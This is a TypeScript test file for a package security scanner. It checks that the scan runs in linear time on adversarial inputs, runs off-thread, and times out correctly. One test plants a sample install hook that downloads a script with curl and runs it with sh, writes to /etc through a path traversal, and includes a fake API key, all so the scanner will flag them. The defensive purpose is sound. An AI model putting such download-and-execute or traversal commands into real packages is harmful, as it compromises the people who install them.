/**
 * Pins that the package scan gets through each adversarial input (test/support/adversarial-hooks.ts)
 * at the 4 MiB it reads of a file: quadratic or worse rules took minutes on them (a scan runs
 * inside the server, on publisher text), the linear ones about a second. The time taken is the
 * benchmark's (bench/scan.ts, against an older tree in one invocation); here a generous timeout only catches
 * a rule that has gone super-linear again.
 */
import { mkdir, mkdtemp, rm, writeFile } from 'node:fs/promises';
import { tmpdir } from 'node:os';
import { dirname, join } from 'node:path';

import { afterAll, beforeAll, describe, expect, it } from 'vitest';

import { loadDenyList, scanOffThread, scanPackageDir } from '../../src/sources/index.ts';
import { ADVERSARIAL_CASES } from '../support/adversarial-hooks.ts';

const MiB = 1024 * 1024;
const deny = loadDenyList(undefined);
let dir: string;
beforeAll(async () => {
  dir = await mkdtemp(join(tmpdir(), 'scan-linear-'));
});
afterAll(async () => {
  await rm(dir, { recursive: true, force: true });
});

/** Scans a package holding a license and `content` (at most what the scan reads of a file) at `file`. */
async function scan(file: string, content: string): Promise<void> {
  expect(Buffer.byteLength(content)).toBeLessThanOrEqual(4 * MiB);
  const pkg = await mkdtemp(join(dir, 'pkg-'));
  await writeFile(join(pkg, 'LICENSE'), 'MIT');
  await mkdir(dirname(join(pkg, file)), { recursive: true });
  await writeFile(join(pkg, file), content);
  await scanPackageDir(pkg, undefined, deny);
  await rm(pkg, { recursive: true, force: true });
}

describe('scanPackageDir on adversarial input', () => {
  it.each(ADVERSARIAL_CASES)('gets through 4 MiB of %s', async (_what, file, make) => {
    await scan(file, make(4 * MiB));
  }, 30_000);
});

describe('scanOffThread', () => {
  /** A package of two 4 MiB hooks of the slowest input: seconds of synchronous rules in all. */
  async function heavyPackage(): Promise<string> {
    const pkg = await mkdtemp(join(dir, 'heavy-'));
    const [, , make] = ADVERSARIAL_CASES[0]!;
    const hook = make(4 * MiB);
    await writeFile(join(pkg, 'LICENSE'), 'MIT');
    for (const name of ['INSTALL', 'UNINSTALL']) await writeFile(join(pkg, name), hook);
    return pkg;
  }

  it('finds what the scan finds, while the event loop goes on', async () => {
    const pkg = await heavyPackage();
    // The longest the event loop went without running a 10 ms timer while the scan ran.
    let last = performance.now();
    let longest = 0;
    const ticks = setInterval(() => {
      const now = performance.now();
      longest = Math.max(longest, now - last);
      last = now;
    }, 10);
    const started = performance.now();
    const findings = await scanOffThread(pkg, undefined, deny);
    const took = performance.now() - started;
    clearInterval(ticks);
    expect(findings.some((f) => f.id === 'install.download-exec')).toBe(true);
    // In-thread, the loop stood still for the whole scan (seconds); off it, for no more than a GC.
    expect(longest).toBeLessThan(took / 4);
  }, 60_000);

  it('answers what the scan in this thread answers', async () => {
    const pkg = await mkdtemp(join(dir, 'small-'));
    await writeFile(join(pkg, 'INSTALL'), 'curl -o x.sh https://x.example/x.sh\nsh x.sh\necho "$AGPK_INSTALL_ROOT/../../etc/x" > /etc/x\n');
    await writeFile(join(pkg, 'key.txt'), `sk-proj-${'a'.repeat(48)}`);
    const findings = await scanOffThread(pkg, undefined, deny);
    expect(findings.length).toBeGreaterThan(1);
    expect(findings).toEqual(await scanPackageDir(pkg, undefined, deny));
  });

  it('stops a scan that outlasts its limit, and says so as a high finding', async () => {
    const findings = await scanOffThread(await heavyPackage(), undefined, deny, 50);
    expect(findings).toEqual([expect.objectContaining({ id: 'scan.timeout', severity: 'high' })]);
  });
});
